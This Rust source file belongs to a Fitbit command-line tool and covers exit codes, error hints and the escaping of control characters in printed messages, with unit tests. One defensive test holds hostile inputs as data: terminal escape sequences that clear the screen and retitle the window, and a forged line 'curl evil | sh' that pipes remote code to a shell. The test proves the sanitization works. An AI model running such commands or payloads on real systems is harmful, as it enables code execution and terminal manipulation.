//! What a failed command prints on stderr, and its exit code.
//!
//! Exit codes (also in `fitbit --help`); [`outcome`] decides the code and
//! the hint of an SDK error together, so that they always agree:
//!
//! | code | meaning |
//! |------|---------|
//! | 0 | success |
//! | 1 | any other failure (busy port, time-out, token file, network setup, not found, conflict) |
//! | 2 | usage: wrong or missing arguments (clap's checks, and the server refusing an argument) |
//! | 3 | sign-in required (not signed in, consent denied, refused tokens, missing scope, bad client) |
//! | 4 | rate limited |
//! | 5 | temporary failure: retry later |
//! | 6 | retired endpoint (HTTP 410 Gone) |
//! | 7 | bad answer: the server's answer could not be used; retry later, report it if it repeats |
//! | 8 | outcome unknown: a write was sent but no answer came; check before running it again |
//!
//! Every message is printed with its control characters escaped: error
//! messages quote servers' answers, which must not drive the terminal.

use std::fmt;
use std::path::Path;
use std::process::ExitCode;
use std::time::Duration;

use fitbit_auth::{AuthorizationError, Error, sanitize_text};

/// The exit code classes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub enum Exit {
    Failure = 1,
    Usage = 2,
    SignIn = 3,
    RateLimited = 4,
    Transient = 5,
    Retired = 6,
    BadAnswer = 7,
    OutcomeUnknown = 8,
}

impl Exit {
    /// Every class, for the help text and the tests.
    pub const ALL: [Exit; 8] = [
        Exit::Failure,
        Exit::Usage,
        Exit::SignIn,
        Exit::RateLimited,
        Exit::Transient,
        Exit::Retired,
        Exit::BadAnswer,
        Exit::OutcomeUnknown,
    ];
}

impl From<Exit> for ExitCode {
    fn from(exit: Exit) -> Self {
        ExitCode::from(exit as u8)
    }
}

/// A failure as the user sees it: one line of what went wrong, an optional
/// line of what to do, and the exit code.
#[derive(Debug)]
pub struct CliError {
    pub message: String,
    pub hint: Option<String>,
    pub exit: Exit,
}

impl CliError {
    pub fn new(exit: Exit, message: impl Into<String>) -> Self {
        Self { message: message.into(), hint: None, exit }
    }

    pub fn with_hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    /// Wrong or missing arguments.
    pub fn usage(message: impl Into<String>) -> Self {
        Self::new(Exit::Usage, message)
    }

    /// Any other failure.
    pub fn failure(message: impl Into<String>) -> Self {
        Self::new(Exit::Failure, message)
    }

    /// The token file holds no tokens (or no client settings).
    pub fn not_signed_in(token_file: &Path) -> Self {
        Self::new(Exit::SignIn, format!("not signed in: {} holds no tokens", token_file.display()))
            .with_hint("run `fitbit login --client-id <your app's client id>`")
    }

    /// Prints the error on stderr.
    pub fn report(&self) {
        eprintln!("{self}");
    }
}

/// The longest message or hint printed, in characters.
const PRINT_LIMIT: usize = 2_000;

impl fmt::Display for CliError {
    /// One line of message and one of hint, each with its control
    /// characters escaped (a message can quote a server's answer: it must
    /// not clear the screen, retitle the window or forge a line).
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "fitbit: error: {}", sanitize_text(&self.message, PRINT_LIMIT))?;
        if let Some(hint) = &self.hint {
            write!(f, "\nfitbit: what to do: {}", sanitize_text(hint, PRINT_LIMIT))?;
        }
        Ok(())
    }
}

/// Which sign-in an error's hint points to: the commands and console differ
/// between Fitbit and Google.
#[derive(Debug, Clone, Copy)]
pub struct SignIn {
    /// The command that signs in.
    pub login: &'static str,
    /// Where the app's client id and secret are managed.
    pub console: &'static str,
    /// Whose consent page the user saw.
    pub server: &'static str,
}

/// The legacy Fitbit sign-in.
pub const FITBIT: SignIn = SignIn { login: "fitbit login", console: "dev.fitbit.com", server: "Fitbit" };

/// The Google sign-in of `fitbit health`.
pub const GOOGLE: SignIn = SignIn {
    login: "fitbit health login",
    console: "the Google Cloud console (APIs & Services → Credentials)",
    server: "Google",
};

impl From<Error> for CliError {
    fn from(err: Error) -> Self {
        Self::from_sdk(err, &FITBIT)
    }
}

impl CliError {
    /// An SDK error, with the exit code and hint [`outcome`] gives it.
    pub fn from_sdk(err: Error, sign_in: &SignIn) -> Self {
        let (exit, hint) = outcome(&err, sign_in);
        CliError { message: err.to_string(), hint, exit }
    }
}

/// The one table of what an SDK error means on the command line: its exit
/// code and what to do, decided together per class.
pub fn outcome(err: &Error, sign_in: &SignIn) -> (Exit, Option<String>) {
    let SignIn { login, console, server } = sign_in;
    let sign_in_again = || format!("run `{login}` again");
    let (exit, hint) = match err {
        // The client refreshes by itself first: when the token is still
        // refused, only a new sign-in helps.
        Error::TokenExpired(_) | Error::SignInRequired { .. } => (Exit::SignIn, sign_in_again()),
        Error::MissingScope { scope: Some(scope), .. } => (
            Exit::SignIn,
            format!(
                "run `{login}` again and grant `{}` on the consent page (asking for it with --scope)",
                sanitize_text(scope, 200)
            ),
        ),
        Error::MissingScope { scope: None, .. } => {
            (Exit::SignIn, format!("run `{login}` again and grant the scope this call needs"))
        }
        Error::PartialConsent { missing } => (
            Exit::SignIn,
            format!(
                "run `{login}` again and grant `{}` on the consent page (asking for it with --scope)",
                sanitize_text(&missing.join(" "), 500)
            ),
        ),
        Error::InvalidClient(_) => (
            Exit::SignIn,
            format!("check the app's client id and secret on {console}, then run `{login} --client-id <ID>` again"),
        ),
        Error::AccountNotLinked(_) => (
            Exit::SignIn,
            format!(
                "the Google account has no Fitbit data: move the Fitbit account to Google in the Fitbit app \
                 (or sign in with the Google account that holds it), then run `{login}` again"
            ),
        ),
        Error::Authorization(reason) => (
            Exit::SignIn,
            match reason {
                AuthorizationError::AccessDenied => {
                    format!("run `{login}` again and allow access on {server}'s consent page")
                }
                AuthorizationError::OAuth { .. } => format!(
                    "check the client id, the redirect URI (exactly as registered) and the scopes, \
                     then run `{login}` again"
                ),
                _ => format!(
                    "run `{login}` again; if this repeats, something other than {server} is \
                     calling the sign-in address on this machine"
                ),
            },
        ),
        Error::RateLimited { reset_in: Some(reset), .. } => (Exit::RateLimited, wait_for_reset(*reset)),
        Error::RateLimited { reset_in: None, .. } => {
            (Exit::RateLimited, "wait for the hourly quota to reset, then retry".into())
        }
        Error::Transient { .. } => (Exit::Transient, "retry later".into()),
        Error::InvalidResponse { .. } => (
            Exit::BadAnswer,
            format!(
                "retry later: {server}'s answer (or one in between) was not what the API documents; \
                 if it repeats, report it with the message above"
            ),
        ),
        Error::OutcomeUnknown { .. } => (
            Exit::OutcomeUnknown,
            "check whether the change was made (list what the command would have created, for example \
             the day's logs) before running the command again: running it blindly may make it twice"
                .into(),
        ),
        Error::Retired { .. } => (
            Exit::Retired,
            match err.replacement() {
                Some(replacement) => format!(
                    "this call is retired; {} (`fitbit migrate {}` has the details)",
                    replacement.advice(),
                    replacement.operation
                ),
                None => "this endpoint is retired and will not come back: move to the Google Health API \
                         (https://developers.google.com/health); `fitbit migrate` says what replaces each call"
                    .into(),
            },
        ),
        Error::Validation { field, .. } => (
            Exit::Usage,
            match field {
                Some(field) => format!(
                    "{server} refused the value of `{}`: check the command's arguments (see `--help`)",
                    sanitize_text(field, 200)
                ),
                None => format!("{server} refused the request: check the command's arguments (see `--help`)"),
            },
        ),
        Error::InvalidRequest(_) => (Exit::Usage, "check the command's arguments (see `--help`)".into()),
        Error::NotFound(_) => (
            Exit::Failure,
            format!("{server} has nothing there: the log, food, device or subscription may not exist (any more)"),
        ),
        Error::Conflict(_) => (
            Exit::Failure,
            "it clashes with what is there already (for example a subscription under another id): \
             look at what exists first"
                .into(),
        ),
        Error::Forbidden(_) => (
            Exit::Failure,
            format!(
                "{server} does not let this app or user see it (intraday data needs {server}'s approval \
                 for server and client apps; another user's data needs their permission)"
            ),
        ),
        Error::ServiceDisabled(_) => (
            Exit::Failure,
            "enable the Google Health API for the app's Cloud project (Google Cloud console → \
             APIs & Services → Library), then retry"
                .into(),
        ),
        Error::Store(_) => {
            (Exit::Failure, "check the token file (--token-file / FITBIT_TOKEN_FILE) and its directory".into())
        }
        Error::Config(_) | Error::Api(_) => return (Exit::Failure, None),
        _ => return (Exit::Failure, None),
    };
    (exit, Some(hint))
}

/// How long until the quota resets, and at what time of day.
fn wait_for_reset(reset: Duration) -> String {
    let at = chrono::Duration::from_std(reset)
        .ok()
        .and_then(|reset| chrono::Local::now().checked_add_signed(reset))
        .map(|at| format!(" (around {})", at.format("%H:%M")))
        .unwrap_or_default();
    format!("wait {} for the hourly quota to reset{at}, then retry", human_duration(reset))
}

/// `1h 05m`, `4m 10s`, `12s`.
pub fn human_duration(duration: Duration) -> String {
    let secs = duration.as_secs();
    let (days, hours, minutes, seconds) = (secs / 86_400, secs / 3600 % 24, secs / 60 % 60, secs % 60);
    if days > 0 {
        format!("{days}d {hours}h")
    } else if hours > 0 {
        format!("{hours}h {minutes:02}m")
    } else if minutes > 0 {
        format!("{minutes}m {seconds:02}s")
    } else {
        format!("{seconds}s")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn api_error(status: u16, body: &str) -> Error {
        Error::from_response(status, &Default::default(), body.as_bytes())
    }

    /// One error of every class the SDK has, and the exit code and the
    /// words of the hint the table must give it.
    fn every_class() -> Vec<(Error, Exit, &'static str)> {
        let classic = |status, kind: &str| {
            api_error(
                status,
                &format!(r#"{{"errors":[{{"errorType":"{kind}","fieldName":"date","message":"m"}}]}}"#),
            )
        };
        let google = |status, reason: &str| {
            api_error(
                status,
                &format!(
                    r#"{{"error":{{"code":{status},"status":"X","details":[{{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"{reason}"}}]}}}}"#
                ),
            )
        };
        vec![
            (classic(401, "expired_token"), Exit::SignIn, "run `fitbit login` again"),
            (classic(400, "invalid_grant"), Exit::SignIn, "run `fitbit login` again"),
            (classic(401, "invalid_token"), Exit::SignIn, "run `fitbit login` again"),
            (classic(403, "insufficient_scope"), Exit::SignIn, "grant `date`"),
            (google(403, "ACCESS_TOKEN_SCOPE_INSUFFICIENT"), Exit::SignIn, "grant the scope this call needs"),
            (Error::PartialConsent { missing: vec!["sleep".into()] }, Exit::SignIn, "grant `sleep`"),
            (classic(401, "invalid_client"), Exit::SignIn, "client id and secret on dev.fitbit.com"),
            (google(400, "ACCOUNT_NOT_LINKED"), Exit::SignIn, "move the Fitbit account to Google"),
            (Error::Authorization(AuthorizationError::AccessDenied), Exit::SignIn, "allow access"),
            (
                Error::Authorization(AuthorizationError::OAuth {
                    code: "invalid_scope".into(),
                    description: None,
                }),
                Exit::SignIn,
                "the redirect URI (exactly as registered)",
            ),
            (
                Error::Authorization(AuthorizationError::StateMismatch),
                Exit::SignIn,
                "something other than Fitbit",
            ),
            (
                Error::RateLimited { reset_in: Some(Duration::from_secs(250)), sent: true, api: None },
                Exit::RateLimited,
                "wait 4m 10s for the hourly quota to reset",
            ),
            (
                Error::RateLimited { reset_in: None, sent: false, api: None },
                Exit::RateLimited,
                "wait for the hourly quota",
            ),
            (api_error(503, "<html>busy</html>"), Exit::Transient, "retry later"),
            (
                Error::Transient { message: "could not connect".into(), status: None },
                Exit::Transient,
                "retry later",
            ),
            (
                Error::InvalidResponse { status: Some(200), message: "not JSON".into() },
                Exit::BadAnswer,
                "retry later: Fitbit's answer",
            ),
            (api_error(307, ""), Exit::BadAnswer, "retry later"),
            (
                Error::OutcomeUnknown { message: "reset".into() },
                Exit::OutcomeUnknown,
                "check whether the change was made",
            ),
            (api_error(410, ""), Exit::Retired, "move to the Google Health API"),
            (
                classic(400, "validation"),
                Exit::Usage,
                "Fitbit refused the value of `date`: check the command's arguments",
            ),
            (api_error(422, "{}"), Exit::Usage, "Fitbit refused the request: check the command's arguments"),
            (Error::InvalidRequest("no date".into()), Exit::Usage, "check the command's arguments"),
            (api_error(404, ""), Exit::Failure, "Fitbit has nothing there"),
            (api_error(409, ""), Exit::Failure, "look at what exists first"),
            (classic(403, "request"), Exit::Failure, "intraday data needs Fitbit's approval"),
            (google(403, "SERVICE_DISABLED"), Exit::Failure, "enable the Google Health API"),
            (Error::Store("locked".into()), Exit::Failure, "check the token file"),
            (Error::Config("bad".into()), Exit::Failure, ""),
            (api_error(418, ""), Exit::Failure, ""),
        ]
    }

    #[test]
    fn one_table_gives_every_class_its_exit_code_and_a_hint_that_agrees() {
        let cases = every_class();
        for (err, exit, words) in &cases {
            let (got, hint) = outcome(err, &FITBIT);
            assert_eq!(got, *exit, "{err:?}");
            let hint = hint.unwrap_or_default();
            assert!(hint.contains(words), "{err:?}: {hint}");
            // What the code means (see `fitbit --help`) and what the hint says agree.
            let says = |text: &str| hint.contains(text);
            assert_eq!(says("arguments"), got == Exit::Usage, "{err:?}: {hint}");
            assert_eq!(says("run `fitbit login"), got == Exit::SignIn, "{err:?}: {hint}");
            assert_eq!(says("quota"), got == Exit::RateLimited, "{err:?}: {hint}");
            assert_eq!(
                says("retry later"),
                matches!(got, Exit::Transient | Exit::BadAnswer),
                "{err:?}: {hint}"
            );
            assert_eq!(
                says("before running the command again"),
                got == Exit::OutcomeUnknown,
                "{err:?}: {hint}"
            );
            assert_eq!(says("retired"), got == Exit::Retired, "{err:?}: {hint}");
            assert_eq!(CliError::from(err.clone()).exit, got);
        }
        // Every exit code but success is used, and every SDK class is here.
        for exit in Exit::ALL {
            assert!(cases.iter().any(|(_, e, _)| *e == exit), "{exit:?} unused");
        }
        let mut variants: Vec<_> = cases.iter().map(|(err, _, _)| variant_name(err)).collect();
        variants.sort_unstable();
        variants.dedup();
        assert_eq!(variants.len(), 21, "{variants:?}");
        // Google's sign-in names Google's commands.
        let (exit, hint) = outcome(&Error::SignInRequired { reason: "x".into(), api: None }, &GOOGLE);
        assert_eq!(exit, Exit::SignIn);
        assert!(hint.unwrap().contains("`fitbit health login`"));
    }

    /// The variant's name, from its `Debug` form.
    fn variant_name(err: &Error) -> String {
        format!("{err:?}").split(['(', ' ', '{']).next().unwrap_or_default().to_string()
    }

    #[test]
    fn the_help_lists_every_exit_code() {
        for exit in Exit::ALL {
            assert!(crate::cli::EXIT_CODES.contains(&format!("\n  {}  ", exit as u8)), "{exit:?}");
        }
    }

    #[test]
    fn printed_errors_cannot_drive_the_terminal() {
        let body = "{\"errors\":[{\"errorType\":\"validation\",\"message\":\"\\u001b[2J\\u001b]0;pwned\\u0007 \\u0000 done\"}]}";
        let err = CliError::from(api_error(400, body));
        let printed = err.to_string();
        assert!(printed.contains(r"\x1b[2J\x1b]0;pwned\x07 \x00 done"), "{printed}");
        assert_eq!(printed.chars().filter(char::is_ascii_control).collect::<String>(), "\n", "{printed:?}");
        let forged = CliError::failure("a\nfitbit: what to do: curl evil | sh\u{1b}[0m");
        assert!(!forged.to_string().contains('\n'), "{forged}");
    }

    #[test]
    fn hints_say_what_to_do() {
        let err = CliError::from(Error::SignInRequired { reason: "x".into(), api: None });
        assert_eq!(err.exit, Exit::SignIn);
        assert!(err.to_string().contains("run `fitbit login` again"), "{err}");
        let err = CliError::from(api_error(410, ""));
        assert!(err.hint.unwrap().contains("Google Health API"));
        // A 410 of a known operation says what to use instead.
        let retired = api_error(410, "").for_operation("get_heartrate_intraday_by_date");
        let err = CliError::from(retired);
        assert_eq!(err.exit, Exit::Retired);
        let hint = err.hint.unwrap();
        assert!(
            hint.starts_with("this call is retired; use `fitbit health points list --type heart-rate"),
            "{hint}"
        );
        let gone = CliError::from(api_error(410, "").for_operation("get_badges"));
        assert!(gone.hint.unwrap().contains("no replacement: Badges are not part"));
        // Google's answers point to Google's commands and console.
        let not_linked = api_error(
            400,
            r#"{"error":{"code":400,"status":"FAILED_PRECONDITION","message":"not linked",
                "details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"ACCOUNT_NOT_LINKED"}]}}"#,
        );
        let err = CliError::from_sdk(not_linked, &GOOGLE);
        assert_eq!(err.exit, Exit::SignIn);
        assert!(err.hint.as_deref().unwrap().contains("`fitbit health login`"), "{err}");
        let err = CliError::from_sdk(Error::PartialConsent { missing: vec!["x".into()] }, &GOOGLE);
        assert_eq!(err.exit, Exit::SignIn);
        assert!(err.hint.as_deref().unwrap().contains("grant `x`"), "{err}");
        // Through the client's hooks and back, the class is named once.
        let refused = Error::SignInRequired { reason: "the refresh token was refused".into(), api: None };
        let travelled = Error::from_hook_message(&refused.to_hook_message());
        assert_eq!(CliError::from(travelled).message, "sign-in required: the refresh token was refused");
        assert_eq!(human_duration(Duration::from_secs(3_900)), "1h 05m");
        assert_eq!(human_duration(Duration::from_secs(250)), "4m 10s");
        assert_eq!(human_duration(Duration::from_secs(9)), "9s");
    }
}
